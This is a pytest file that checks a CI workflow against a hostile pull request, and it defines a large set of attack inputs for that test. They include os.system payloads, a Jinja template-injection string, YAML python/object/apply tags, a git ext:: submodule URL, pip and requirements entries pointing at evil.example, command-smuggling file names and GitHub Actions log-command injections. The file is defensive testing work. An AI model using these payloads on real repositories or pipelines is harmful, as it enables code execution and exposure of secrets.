"""A pull request that means harm: its steps execute nothing of it and post only what was found."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

import pytest

from tests.test_workflow_steps import CHECK
from tests.workflow_host import APPROVED, CLAIM, PROGRAM, Host, Link
from tests.workflow_run import Runner

if TYPE_CHECKING:
    from pathlib import Path

    from tests.workflow_run import Run

PYTHON = "import os\nos.system('touch pwned-by-python; env > pwned-env')\n"
SHELL = "#!/bin/sh\ntouch pwned-by-shell\n"
TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('touch pwned-by-template').read() }}\n"
ORDERS = (
    "::error file=a,line=1::pwned by a command",
    "  ::add-mask::e",
    "::stop-commands::pwned",
    "##[error]pwned",
    "##vso[task.setvariable variable=PATH]pwned",
    "@everyone @haulwick/staff pwned",
    "<script>pwned</script>",
    "$(touch pwned-by-text) `touch pwned-by-text`",
    "${{ github.token }}",
)
SETTINGS = (
    "site_name: x\nhooks: [evil.py]\nplugins: [evil]\ntheme: {name: material, custom_dir: site}\n"
    "extra: !!python/object/apply:os.system ['touch pwned-by-a-tag']\n"
)
FILES: dict[str, str | bytes | Link | None] = {
    # what Python, pip, git, make and shells would run or read on their own
    **dict.fromkeys(
        ("evil.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "setup.py"), PYTHON
    ),
    **dict.fromkeys(("venv.py", "pip.py", "json.py", "yaml.py", "click.py"), PYTHON),
    "goodword/__init__.py": PYTHON,
    "goodword/cli/__init__.py": PYTHON,
    "venv/__main__.py": PYTHON,
    "pip.conf": "[global]\nindex-url = https://evil.example/simple\n",
    "requirements.txt": "evil @ https://evil.example/evil-1-py3-none-any.whl\n",
    "goodword.txt": "goodword @ git+https://evil.example/goodword@0\n",
    "pyproject.toml": "[build-system]\nrequires = ['evil']\nbuild-backend = 'evil'\n",
    "Makefile": "all:\n\ttouch pwned-by-make\n",
    "post-checkout": SHELL,
    ".githooks/post-checkout": SHELL,
    ".gitmodules": '[submodule "x"]\n\tpath = x\n\turl = ext::touch% pwned-by-git\n',
    ".gitattributes": "* filter=evil diff=evil merge=evil -text\n",
    ".bashrc": "touch pwned-by-shell\n",
    ".profile": "touch pwned-by-shell\n",
    ".goodword/journal": "{}",
    ".goodword/cache/0/x.json": "{}",
    # what a portal would run or read
    "mkdocs.yml": SETTINGS,
    "program/mkdocs.yml": SETTINGS,
    "site/templates/person.html.j2": TEMPLATE,
    "site/overrides/main.html": TEMPLATE,
    "site/pages/en/evil.md": f"{TEMPLATE}<script>pwned</script>\n",
    "schemas/claim.schema.json": "{}",
    # links, sizes, odd content
    "program/tiers.yml": Link("/etc/passwd"),
    "influencers/cy": Link("../influencers/ana"),
    "program/policies.yml": Link("../requirements.txt"),
    "program/rewards/mug.yml": "x" * 3_000_000,
    "program/strategy.yml": b"\0\xff\xfe" * 1_000,
    "program/calendar.yml": "a: &a [x]\nb: &b [*a, *a]\nc: [*b, *b]\n",
    "program/identification.yml": "!!python/object/apply:os.system ['touch pwned-by-a-tag']\n",
    "missions/evil/mission.yml": "[" * 50_000,
    # names with commands
    "missions/talk/claims/$(touch pwned-by-name).yml": "a: b\n",
    "missions/talk/claims/`touch pwned-by-name`.yml": "a: b\n",
    "missions/talk/claims/;touch pwned-by-name;.yml": "a: b\n",
    "missions/talk/claims/--exec=touch pwned.yml": "a: b\n",
    "missions/talk/claims/##[error]pwned.yml": "a: b\n",
    "missions/talk/claims/\n::error::pwned.yml": "a: b\n",
    "::error file=x::pwned.yml": "a: b\n",
    "program/::error::pwned.yml": "a: b\n",
    # texts with commands, in files that can be read
    "missions/talk/mission.yml": (
        "title: Give a talk\npoints: 100\nstatus: paused\ninstructions: |\n"
        + "".join(f"  {line}\n" for line in ORDERS)
    ),
    "influencers/ana/profile.yml": (
        f"name: '{ORDERS[0]}'\nstage: member\nsince: '2024-01-02'\nbio: '{ORDERS[3]}'\n"
    ),
    "influencers/bo/profile.yml": f"name: Bo\nstage: '{ORDERS[0]}'\nsince: '{ORDERS[4]}'\n",
}
COMMAND = re.compile(r"^\s*::|##\w*\[")
OURS = re.compile(r"::(error|warning|notice) (file=|title=goodword)")


@pytest.fixture(scope="module")
def hosts(tmp_path_factory: pytest.TempPathFactory) -> Host:
    """A host with a program, whose base no run changes."""
    return Host(tmp_path_factory.mktemp("hostile") / "host")


def executed(work: Path) -> list[str]:
    """What something that ran left behind."""
    return [path.name for path in work.rglob("pwned*")]


def unlike_a_finding(found: Run) -> list[str]:
    """Lines of the log that the host takes for commands and that are none of ours."""
    return [
        line for line in found.log.splitlines() if COMMAND.search(line) and not OURS.match(line)
    ]


@pytest.mark.parametrize("how", ["fork", "branch", "queue"])
def test_a_hostile_change_is_executed_or_posted(how: str, hosts: Host, tmp_path: Path) -> None:
    merged = hosts.propose(FILES, who="stranger")
    event = hosts.pull_request(merged, fork=how == "fork")
    runner = Runner(hosts.folder, tmp_path / "run")
    found = runner.run(CHECK, hosts.merge_group(merged) if how == "queue" else event)
    assert found is not None
    assert executed(tmp_path) == []
    assert unlike_a_finding(found) == []
    assert found.recorded("requirements") == PROGRAM["requirements.txt"]
    assert found.recorded("installed-from").split() == [hosts.base]
    assert found.recorded("unlike-the-base") == ""
    assert found.results["check"] == found.results["ci"] == "failure"
    assert found.outcome("check", "Judge every file and every rule") == "failure"
    assert "::error file=" in found.log
    assert (found.recorded("gh") == "") == (how != "branch")
    for told in (found.summary["check"], found.recorded("posted")):
        assert "<script" not in re.sub(r"^    .*$", "", told, flags=re.MULTILINE)
        assert not re.search(
            r"@(everyone|haulwick)", re.sub(r"^    .*$", "", told, flags=re.MULTILINE)
        )
        assert len(told) < 1_000_000
        assert "root:" not in told  # what the link leads to


def test_a_sound_change_of_the_same_host_is_refused(hosts: Host, tmp_path: Path) -> None:
    merged = hosts.propose({CLAIM: APPROVED})
    found = Runner(hosts.folder, tmp_path / "run").run(CHECK, hosts.merge_group(merged))
    assert found is not None
    assert found.outcome("check", "Judge every file and every rule") == "success"


def test_what_a_hostile_change_would_do_is_not_seen(tmp_path: Path) -> None:
    """The looking itself: something executed, or a command in a log, is noticed."""
    host = Host(tmp_path / "host")
    workflow = tmp_path / "careless.yml"
    text = CHECK.read_text(encoding="utf-8")
    careless = text.replace(
        "git clean -ffdxq 2> /dev/null",
        'git checkout --quiet "$GITHUB_SHA"; ls program; . ./.bashrc',
    )
    assert careless != text
    workflow.write_text(careless, encoding="utf-8")
    merged = host.propose(FILES, who="stranger")
    found = Runner(host.folder, tmp_path / "run").run(workflow, host.pull_request(merged))
    assert found is not None
    assert executed(tmp_path / "run")
    assert unlike_a_finding(found)
    assert found.recorded("requirements") != PROGRAM["requirements.txt"]
